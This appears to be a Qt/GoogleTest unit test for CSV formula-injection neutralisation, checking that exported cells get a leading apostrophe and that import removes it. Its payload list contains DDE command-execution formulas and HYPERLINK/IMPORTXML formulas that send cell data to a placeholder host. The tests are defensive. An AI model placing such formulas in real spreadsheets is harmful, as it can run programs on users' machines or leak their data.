// CSV injection (OWASP): every cell a spreadsheet would run as a formula is written as text,
// and the import takes exactly that "'" off again.
#include "TestSupport.h"

#include "core/csv/Csv.h"

#include <gtest/gtest.h>

using namespace rd;

namespace {

// Cells that Excel or LibreOffice would run as a formula or a DDE call.
const QStringList &payloads()
{
    static const QStringList lijst{
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("+1+1"),
        QStringLiteral("-2+3"),
        QStringLiteral("@SUM(A1)"),
        QStringLiteral("\t=1"),
        QStringLiteral("\r=1"),
        QStringLiteral("=HYPERLINK(\"http://x.example/?q=\"&A1,\"click\")"),
        QStringLiteral("=1+2"),
        QStringLiteral("+cmd|' /C calc'!A0"),
        QStringLiteral("-cmd|' /C calc'!A0"),
        QStringLiteral("@cmd|' /C calc'!A0"),
        QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
        QStringLiteral("=IMPORTXML(CONCAT(\"http://x.example/?\", A1), \"//a\")"),
        QStringLiteral("'=1"),
        QStringLiteral("''+SUM(1;2)"),
        QStringLiteral("\t\t@x"),
        QStringLiteral("-1e5"),
        QStringLiteral("-"),
        QStringLiteral("="),
        QStringLiteral("- 12"),
        QStringLiteral("-12-"),
        QStringLiteral("-1,2,3"),
    };
    return lijst;
}

} // namespace

TEST(CsvInjectie, EveryPayloadGetsExactlyOneLeadingApostrophe)
{
    ASSERT_GE(payloads().size(), 15);
    for (const QString &p : payloads()) {
        EXPECT_EQ(csv::neutraliseer(p), QLatin1Char('\'') + p) << p.toStdString();
        EXPECT_EQ(csv::herstel(csv::neutraliseer(p)), p) << p.toStdString();
    }
}

TEST(CsvInjectie, NegativeNumbersWeFormatStayNumbers)
{
    for (const char *getal : {"-12", "-2,5", "-0.5", "-0", "12", "2,5", "-1234567890"}) {
        const QString cel = QLatin1String(getal);
        EXPECT_EQ(csv::neutraliseer(cel), cel) << getal;
        EXPECT_EQ(csv::herstel(cel), cel) << getal;
    }
}

TEST(CsvInjectie, OrdinaryTextIsLeftAlone)
{
    for (const char *tekst :
         {"Amina", "", "a=b", "'abc", "''", " =1", "GM0363", "2025-03-01", "'", "x-1", "1+1"}) {
        const QString cel = QLatin1String(tekst);
        EXPECT_EQ(csv::neutraliseer(cel), cel) << tekst;
        EXPECT_EQ(csv::herstel(cel), cel) << tekst;
    }
}

TEST(CsvInjectie, HerstelTakesOffOneApostropheOnlyBeforeAFormulaCharacter)
{
    EXPECT_EQ(csv::herstel(u"'=1"), QStringLiteral("=1"));
    EXPECT_EQ(csv::herstel(u"'''-x"), QStringLiteral("''-x"));
    EXPECT_EQ(csv::herstel(u"'\t"), QStringLiteral("\t"));
    EXPECT_EQ(csv::herstel(u"'abc"), QStringLiteral("'abc"));
    EXPECT_EQ(csv::herstel(u"=1"), QStringLiteral("=1")) << "nothing to take off";
}

TEST(CsvInjectie, QuoteNeutralisesBeforeQuoting)
{
    EXPECT_EQ(csv::quote(QStringLiteral("=1+2")), QStringLiteral("'=1+2"));
    EXPECT_EQ(csv::quote(QStringLiteral("=a,b")), QStringLiteral("\"'=a,b\""));
    EXPECT_EQ(csv::quote(QStringLiteral("\r=1")), QStringLiteral("\"'\r=1\""));
    EXPECT_EQ(csv::quote(QStringLiteral("-2,5"), QLatin1Char(';')), QStringLiteral("-2,5"));
    EXPECT_EQ(csv::quote(QStringLiteral("-2,5")), QStringLiteral("\"-2,5\""))
        << "a number is quoted for the delimiter, not neutralised";
}

TEST(CsvInjectie, NoWrittenCellStartsWithAFormulaCharacterAndAllReadBack)
{
    QStringList header;
    for (qsizetype i = 0; i < payloads().size(); ++i)
        header << QStringLiteral("k%1").arg(i);
    for (const QChar scheiding : {QLatin1Char(','), QLatin1Char(';')}) {
        const QString tekst = csv::line(header, scheiding) + QLatin1Char('\n') +
                              csv::line(payloads(), scheiding) + QLatin1Char('\n');
        auto tabel = csv::parse(tekst.toUtf8(), QStringLiteral("t.csv"));
        ASSERT_TRUE(tabel.ok()) << tabel.error().toString().toStdString();
        ASSERT_EQ(tabel->rows.size(), 1);
        const QStringList &velden = tabel->rows.at(0).fields;
        ASSERT_EQ(velden.size(), payloads().size());
        for (qsizetype i = 0; i < velden.size(); ++i) {
            EXPECT_TRUE(velden.at(i).startsWith(QLatin1Char('\'')))
                << "written as " << velden.at(i).toStdString();
            EXPECT_EQ(csv::herstel(velden.at(i)), payloads().at(i));
        }
    }
}
